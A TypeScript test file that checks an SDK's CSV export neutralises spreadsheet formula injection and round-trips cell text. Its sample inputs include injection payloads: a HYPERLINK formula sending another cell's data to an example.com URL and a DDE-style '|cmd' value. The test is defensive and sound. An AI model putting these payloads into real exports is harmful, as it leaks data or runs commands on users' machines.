import { expect } from "chai";
import { parse } from "csv-parse/sync";
import { cellText, csvText } from "../../../../sdk/node/tables/cells.js";

describe("cells of tables", () => {
  const texts = [
    "aoki@example.com",
    "花子",
    '=HYPERLINK("https://example.com/?"&B3)',
    "+81 90 1234 5678",
    "-1+1|cmd",
    "@SUM(1)",
    "\t=1",
    "\n=1",
    "＝1",
    "a,b;c",
    'say "hi"',
    "two\nlines",
  ];

  it("begins with the mark by which Excel knows UTF-8", () => {
    expect(csvText(["reference"], []).charCodeAt(0)).to.equal(0xfeff);
  });

  it("has no live formula, and is read back as it was", () => {
    const text = csvText(
      ["reference", "link"],
      texts.map((each) => [each, "x"]),
    );
    const rows = parse<{ reference: string }>(text, { bom: true, columns: true });
    for (const { reference } of rows) expect(reference).not.to.match(/^[=+\-@\t\r\n＝＋－＠]/u);
    expect(rows.map(({ reference }) => cellText(reference))).to.deep.equal(texts);
  });
});
